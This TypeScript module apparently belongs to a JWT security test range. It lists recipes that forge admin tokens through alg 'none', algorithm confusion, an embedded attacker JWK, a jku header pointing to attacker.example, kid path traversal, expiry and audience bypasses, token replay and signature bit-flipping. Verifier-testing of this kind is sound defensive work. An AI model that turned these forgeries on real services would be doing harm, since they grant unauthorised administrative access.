import { flipLastSignatureBit, hs256, joinToken } from "@/lib/threats/jwt-range/forge";
import { ATTACKS_2026 } from "@/lib/threats/jwt-range/attacks-2026";
import {
  asAdmin,
  forge,
  genuine,
  signedByAttacker,
  withoutPrivatePart,
  type Attack,
} from "@/lib/threats/jwt-range/recipe";

export type {
  Attack,
  AttackTarget,
  Built,
  IssuedKind,
  RangeMaterial,
} from "@/lib/threats/jwt-range/recipe";

/**
 * The range's classic attacks, one recipe each, then the 2025–26 classes (./attacks-2026.ts).
 */

function algNone(alg: string): Attack {
  return {
    id: `alg_${alg}`,
    harm: "accepted",
    exploits: "trust_alg",
    build: async (m) => {
      const { header, payload } = await genuine(m);
      const forged = { header: { typ: header.typ, alg }, payload: asAdmin(payload), signature: "" };
      return { token: joinToken(forged), target: "access" };
    },
  };
}

const CLASSIC: readonly Attack[] = [
  {
    id: "role_admin",
    harm: "accepted",
    exploits: "decode_only",
    build: async (m) => {
      const parts = await genuine(m);
      return { token: joinToken({ ...parts, payload: asAdmin(parts.payload) }), target: "access" };
    },
  },
  algNone("none"),
  algNone("None"),
  algNone("NONE"),
  {
    id: "alg_confusion",
    harm: "accepted",
    exploits: "trust_alg",
    build: async (m) => {
      const { header, payload } = await genuine(m);
      const token = await forge({ ...header, alg: "HS256" }, asAdmin(payload), (input) =>
        hs256(input, m.publicPem),
      );
      return { token, target: "access" };
    },
  },
  {
    id: "embedded_jwk",
    harm: "accepted",
    exploits: "trust_jwk",
    build: async (m) => {
      const { header, payload } = await genuine(m);
      const forgedHeader = {
        alg: "ES256",
        typ: header.typ,
        jwk: withoutPrivatePart(m.attacker.privateJwk),
      };
      return { token: await signedByAttacker(m, forgedHeader, asAdmin(payload)), target: "access" };
    },
  },
  {
    id: "jku",
    harm: "accepted",
    exploits: "trust_jku",
    build: async (m) => {
      const { header, payload } = await genuine(m);
      const forgedHeader = {
        alg: "ES256",
        typ: header.typ,
        kid: m.attacker.privateJwk.kid,
        jku: m.attacker.jwksUrl ?? "http://attacker.example/jwks.json",
      };
      return { token: await signedByAttacker(m, forgedHeader, asAdmin(payload)), target: "access" };
    },
  },
  {
    id: "kid_traversal",
    harm: "accepted",
    exploits: "kid_as_path",
    build: async (m) => {
      const { header, payload } = await genuine(m);
      const forgedHeader = { alg: "HS256", typ: header.typ, kid: "../../../../../../dev/null" };
      const token = await forge(forgedHeader, asAdmin(payload), (input) => hs256(input, ""));
      return { token, target: "access" };
    },
  },
  {
    id: "expired",
    harm: "accepted",
    exploits: "skip_time",
    build: async (m) => ({ token: await m.issue("expired"), target: "access" }),
  },
  {
    id: "not_yet_valid",
    harm: "accepted",
    exploits: "skip_time",
    build: async (m) => ({ token: await m.issue("not_yet_valid"), target: "access" }),
  },
  {
    id: "pass_as_access",
    harm: "accepted",
    exploits: "skip_audience",
    build: async (m) => ({ token: await m.issue("pass"), target: "access" }),
  },
  {
    id: "access_as_pass",
    harm: "accepted",
    exploits: "skip_audience",
    build: async (m) => ({ token: await m.issue("fresh"), target: "pass" }),
  },
  {
    id: "stolen_bound",
    harm: "accepted",
    exploits: "ignore_cnf",
    build: async (m) => ({ token: await m.issue("bound"), target: "access" }),
  },
  {
    id: "bit_flip",
    harm: "accepted",
    exploits: "lenient_base64",
    build: async (m) => {
      const genuine = await m.issue("fresh");
      return { token: flipLastSignatureBit(genuine), target: "access", genuine };
    },
  },
];

export const ATTACKS: readonly Attack[] = [...CLASSIC, ...ATTACKS_2026];
